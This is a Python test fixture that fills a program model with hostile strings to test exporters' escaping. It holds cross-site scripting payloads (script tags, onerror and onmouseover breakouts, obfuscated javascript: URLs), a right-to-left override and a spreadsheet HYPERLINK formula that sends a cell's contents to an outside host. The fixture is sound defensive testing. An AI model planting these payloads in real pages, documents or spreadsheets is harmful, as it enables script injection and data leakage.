"""A program full of hostile strings, for the exporters' safety tests (contract EX3, EX4, UN4)."""

from __future__ import annotations

import attrs

from oas_program import default_program
from oas_program.model import Note, Program, Text, TextStatus
from oas_program.model.values import Certainty

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '" onmouseover=alert(1) x="'
JS_URL = "javascript:alert(1)"
MD_LINK = "[x](javascript:alert(1))"
IMG = "<img src=x onerror=alert(1)>"
ARABIC = "برنامج"
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE, left unclosed below
FORMULA = '=HYPERLINK("http://x/?"&A1)'
CELL = "# heading | cell\nsecond | line"
# A URL with an allowed scheme that tries to break out of the href attribute.
QUOTE_URL = 'https://example.org/"onmouseover="alert(1)'


def hostile_program() -> Program:
    """The embedded program with hostile strings in titles, summaries, labels, names and URLs."""
    program = default_program()
    activity = attrs.evolve(
        program.activities[0],
        label=f"# {IMG}",
        summary=Text(status=TextStatus.SUMMARY, en=f"{CELL} {RLO}evil", es=f"a|b\r\nc {SCRIPT}"),
    )
    source = attrs.evolve(program.sources[0], title=f"{ATTRIBUTE}{MD_LINK}", url=JS_URL)
    second_source = attrs.evolve(program.sources[1], url=QUOTE_URL)
    third_source = attrs.evolve(program.sources[2], url="java\tscript:alert(1)")
    fourth_source = attrs.evolve(program.sources[3], url="JaVaScRiPt:alert(1)")
    # The IACHR: it has activities, so its name shows in tables and headings.
    actors = tuple(
        attrs.evolve(
            a,
            name=Text(status=TextStatus.OFFICIAL, en=f"{ARABIC} {RLO}x", es=ARABIC),
            acronym=None,
        )
        if a.id == "iachr"
        else a
        for a in program.actors
    )
    resolution = attrs.evolve(
        program.resolutions[0],
        title=Text(status=TextStatus.OFFICIAL, en=FORMULA),
        url=JS_URL,
    )
    return attrs.evolve(
        program,
        title=Text(status=TextStatus.OFFICIAL, en=f"{SCRIPT}{ATTRIBUTE}", es=ARABIC),
        summary=Text(status=TextStatus.SUMMARY, en=f"{CELL} {MD_LINK} {IMG}"),
        activities=(activity, *program.activities[1:]),
        sources=(source, second_source, third_source, fourth_source, *program.sources[4:]),
        actors=actors,
        resolutions=(resolution, *program.resolutions[1:]),
        notes=(
            Note(certainty=Certainty.UNKNOWN, text=f"{SCRIPT} | {MD_LINK}\n# not a heading"),
            *program.notes,
        ),
    )
